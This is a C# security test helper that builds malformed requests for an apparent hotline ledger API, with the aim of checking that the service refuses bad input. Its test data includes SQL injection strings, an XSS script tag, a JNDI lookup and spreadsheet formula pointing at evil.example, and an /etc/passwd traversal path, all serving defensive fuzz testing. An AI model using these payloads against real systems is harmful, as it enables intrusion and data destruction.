using System.Text.Json;
using System.Text.Json.Nodes;

namespace Hotline.Ledger.Tests.Security;

/// <summary>The ids a valid request needs: made once, before the corpus runs.</summary>
public sealed record CorpusWorld(
    Guid Unit, Guid OtherUnit, Guid Person, Guid OtherPerson, Guid Entry, Guid SpotCheck, Guid Appeal, Guid Evaluation, Guid SubmittedEvaluation,
    Guid Plan);

/// <summary>
/// A write route of the corpus: a valid body, and its fields with the values that must be refused.
/// {unit}, {person}, {entry}, {spot-check}, {appeal}, {evaluation}, {submitted-evaluation} and {plan} in
/// the path take the world's ids. A route without fields takes no body: only ids in its path can be wrong.
/// </summary>
public sealed record WriteRoute(string Path, Func<CorpusWorld, JsonObject> Valid, IReadOnlyList<CorpusField> Fields)
{
    public WriteRoute(string path) : this(path, _ => [], []) { }

    public bool TakesBody => Fields.Count > 0;

    /// <summary>
    /// False where the corpus's world cannot put the route's target in the state its valid body needs
    /// (a shortlist needs applications, which need an open window…): its breakers are still sent.
    /// </summary>
    public bool ValidInWorld { get; init; } = true;

    /// <summary>For a route whose body is not JSON: its content type and whole bodies that must be refused.</summary>
    public (string ContentType, IReadOnlyList<string> Bodies)? Raw { get; init; }
}

/// <summary>A field and the raw JSON values (null: the field left out) that make any body invalid.</summary>
public sealed record CorpusField(string Name, IReadOnlyList<string?> Breakers, bool FreeText = false);

public sealed record MalformedRequest(string Route, string Url, string Body, string What, string ContentType = "application/json");

/// <summary>Builds the malformed requests: every breaker of every field, in bodies otherwise valid and dressed in hostile text.</summary>
public static class MalformedCorpus
{
    public static string S(string value) => JsonSerializer.Serialize(value);

    /// <summary>Strings the database or the JSON reader may choke on: NUL, lone surrogates.</summary>
    public static readonly string[] Poison = [@"""bad\u0000nul""", @"""\ud800""", @"""lone \udfff surrogate"""];

    public static readonly string[] NotAString = ["42", "true", "[]", "{}", @"[""a""]", "-0.5e3"];

    public static readonly string[] Injections =
    [
        "'; DROP TABLE mt_events; --", "\" OR 1=1 --", "<script>alert('x')</script>", "${jndi:ldap://evil.example/a}",
        "=HYPERLINK(\"http://evil.example\")", "../../etc/passwd", "%00%27",
    ];

    /// <summary>What the other free-text fields of a body hold: plain, Chinese and emoji, and injection strings (all valid text).</summary>
    public static readonly string[] Dressings =
        ["市民来电致谢", "热线办公室表扬😀🎉", "'; DROP TABLE mt_events; --", "<script>alert('x')</script>", "=1+2 @SUM(A1) 中文😀"];

    public static CorpusField Text(string name, int max, bool required = true) => new(name,
    [
        .. required ? new[] { null, "null", S(""), S("   ") } : [],
        .. NotAString,
        S(new string('x', max + 1)),
        S(string.Concat(Enumerable.Repeat("中文😀", max))),
        .. Poison,
    ], FreeText: true);

    public static CorpusField Code(string name, int max) => new(name,
    [
        null, "null", S(""), S("has space"), S("中文代码"), S("😀"), S("-lead"), S(new string('A', max + 1)), "42", "[]",
        .. Injections.Select(S), .. Poison,
    ]);

    public static CorpusField Id(string name, bool required = true, params string[] more) => new(name,
    [
        .. required ? new[] { null, "null" } : [],
        S("not-a-guid"), S("中文"), S("😀"), S(Guid.Empty.ToString()), S(Guid.NewGuid().ToString()), S("{" + Guid.NewGuid() + "}x"),
        "42", "true", "{}", S(Injections[0]), .. Poison, .. more,
    ]);

    public static CorpusField Date(string name, bool required = true, params string[] more) => FutureDate(name, required, true, more);

    /// <summary>A date; <paramref name="futureRefused"/> false where a far-future date is valid (a closing date).</summary>
    public static CorpusField FutureDate(string name, bool required, bool futureRefused, params string[] more) => new(name,
    [
        .. required ? new[] { null, "null" } : [],
        S("2020-02-30"), S("2020-13-01"), S("2020-00-10"), S("20200303"), S("2020/03/03"), S("03/03/2020"), S("tomorrow"),
        S("2020-03-03T00:00:00Z"), S("二〇二〇年三月三日"), S("２０２０-０３-０３"), .. futureRefused ? new[] { S("9999-12-31") } : [], S("+002020-03-03"),
        "20200303", "true", "[]", S(Injections[0]), .. Poison, .. more,
    ]);

    public static CorpusField Number(string name, params string[] invalid) => new(name,
        [.. invalid, @"""6""", "true", "[]", "{}", "1e400", "-1e400", S("中文"), S(Injections[0])]);

    public static IEnumerable<MalformedRequest> Build(IEnumerable<WriteRoute> routes, CorpusWorld world)
    {
        var seen = new HashSet<string>();
        foreach (var route in routes)
        {
            var url = Url(route.Path, world);
            foreach (var request in ForRoute(route, world, url))
                if (seen.Add(request.Url + "\n" + request.Body))
                    yield return request;
        }
    }

    private static IEnumerable<MalformedRequest> ForRoute(WriteRoute route, CorpusWorld world, string url)
    {
        if (route.Raw is var (contentType, bodies))
        {
            foreach (var body in bodies) yield return new(route.Path, url, body, $"body {Cut(body)}", contentType);
            yield break;
        }

        foreach (var dressing in route.TakesBody ? Dressings : [])
        {
            foreach (var field in route.Fields)
            foreach (var breaker in field.Breakers)
                yield return new(route.Path, url, Body(route, world, dressing, field.Name, breaker), $"{field.Name} = {breaker ?? "(missing)"}");

            foreach (var (body, what) in WholeBodies(Body(route, world, dressing, null, null)))
                yield return new(route.Path, url, body, what);
        }

        // A body over the route's limit (the access matrix's), once.
        if (route.TakesBody)
        {
            var limit = Hotline.Ledger.Security.AccessMatrix.Find("POST", route.Path)?.MaxBodyBytes ?? Hotline.Ledger.Security.AccessMatrix.DefaultMaxBodyBytes;
            var valid = Body(route, world, Dressings[0], null, null);
            yield return new(route.Path, url, valid.TrimEnd('}') + @",""padding"":""" + new string('x', (int)limit) + @"""}", "body over the size limit");
        }

        // Ids in the path that name nothing, or are not ids at all, with a valid body.
        if (route.Path.Contains('{'))
        {
            var validBody = route.TakesBody ? Body(route, world, Dressings[0], null, null) : "";
            foreach (var id in new[] { "not-a-guid", Guid.NewGuid().ToString(), "%27%20OR%201%3D1--", "%E4%B8%AD%E6%96%87", Guid.Empty.ToString(), "%F0%9F%98%80" })
                yield return new(route.Path, System.Text.RegularExpressions.Regex.Replace(route.Path, @"\{[^}]*\}", id), validBody, $"path id {id}");
        }
    }

    private static IEnumerable<(string Body, string What)> WholeBodies(string valid)
    {
        yield return ("", "empty body");
        yield return ("null", "null body");
        yield return ("[]", "array body");
        yield return ("42", "number body");
        yield return (@"""text""", "string body");
        yield return ("{", "truncated object");
        yield return (valid[..(valid.Length / 2)], "truncated body");
        yield return ("not json at all 中文", "not JSON");
        yield return (new string('[', 5000) + new string(']', 5000), "nesting 5000 deep");
    }

    private static string Body(WriteRoute route, CorpusWorld world, string dressing, string? field, string? breaker)
    {
        var body = route.Valid(world);
        foreach (var text in route.Fields.Where(f => f.FreeText && f.Name != field && body.ContainsKey(f.Name)))
            body[text.Name] = dressing;
        if (field is null) return body.ToJsonString();

        const string marker = "__HOSTILE_VALUE__";
        if (breaker is null) body.Remove(field);
        else body[field] = marker;
        return breaker is null ? body.ToJsonString() : body.ToJsonString().Replace(S(marker), breaker);
    }

    private static string Cut(string text) => text.Length > 40 ? text[..40] + "…" : text;

    public static string Url(string path, CorpusWorld world) => path
        .Replace("{unit}", world.Unit.ToString()).Replace("{person}", world.Person.ToString())
        .Replace("{entry}", world.Entry.ToString()).Replace("{spot-check}", world.SpotCheck.ToString())
        .Replace("{appeal}", world.Appeal.ToString()).Replace("{submitted-evaluation}", world.SubmittedEvaluation.ToString())
        .Replace("{evaluation}", world.Evaluation.ToString()).Replace("{plan}", world.Plan.ToString());
}
